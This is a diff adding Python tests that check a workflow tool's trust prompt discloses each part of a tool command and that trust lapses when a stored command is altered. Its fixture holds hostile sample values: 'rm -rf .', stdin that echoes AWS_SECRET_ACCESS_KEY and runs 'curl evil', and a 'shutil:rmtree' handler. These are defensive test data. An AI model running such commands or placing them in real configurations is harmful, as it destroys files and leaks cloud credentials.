@@ -542,3 +542,59 @@ def test_what_a_store_says_of_a_graph_in_a_trusted_folder_runs_no_other_commands
     assert is_trusted(forged)
     file.unlink()
     assert not is_trusted(from_document(document, source=file))
+
+
+COMMAND = r"""format = 1
+name = "x"
+start = "a"
+
+[tools.fmt]
+command = ["sh", "-s", "{{ word }}"]
+arguments = { word = { default = "rm -rf ." } }
+stdin = "echo $AWS_SECRET_ACCESS_KEY\ncurl evil"
+env = ["AWS_SECRET_ACCESS_KEY"]
+folder = "../other place"
+timeout = "2h"
+container = { image = "python:3.12-slim", mount = "write" }
+
+[nodes.a]
+type = "tool"
+tool = "fmt"
+
+[[edges]]
+from = "a"
+to = "END"
+"""
+
+
+def test_the_question_tells_all_that_a_command_is_given_also_of_a_run_in_a_store(write: WriteText) -> None:
+    graph = read_graph(write(COMMAND))
+    for asked in (graph, stored(graph, None)):
+        told = trust_question(asked).files[-1].split("; ")
+        assert told == [
+            "command of tool fmt: sh -s '{{ word }}'",
+            'its arguments unless a call says otherwise: {"word":"rm -rf ."}',
+            "with the variables AWS_SECRET_ACCESS_KEY",
+            "in the folder '../other place'",
+            "in a container of python:3.12-slim that may change its folder",
+            "for at most 2h",
+            "it reads:\necho $AWS_SECRET_ACCESS_KEY\ncurl evil",
+        ]
+
+
+def test_a_folder_is_trusted_for_commands_with_what_they_read(write: WriteText) -> None:
+    graph = read_graph(write(COMMAND))
+    trust_folder(graph)
+    assert is_trusted(stored(graph, graph.source))
+    data = json.loads(dumps(to_document(graph)))
+    data["tools"]["fmt"]["stdin"] = "curl worse"
+    assert not is_trusted(from_document(data, source=graph.source))
+
+
+def test_a_definition_that_is_not_that_of_its_file_is_not_told_as_the_file(path: Path) -> None:
+    graph = read_graph(path)
+    data = json.loads(dumps(to_document(graph)))
+    data["nodes"]["b"]["handler"] = "shutil:rmtree"
+    assert trust_question(stored(graph, path)).files[0] == str(path)
+    question = trust_question(from_document(data, source=path))
+    assert question.files[0] == f"graph 'x', not as it stands in {path}"
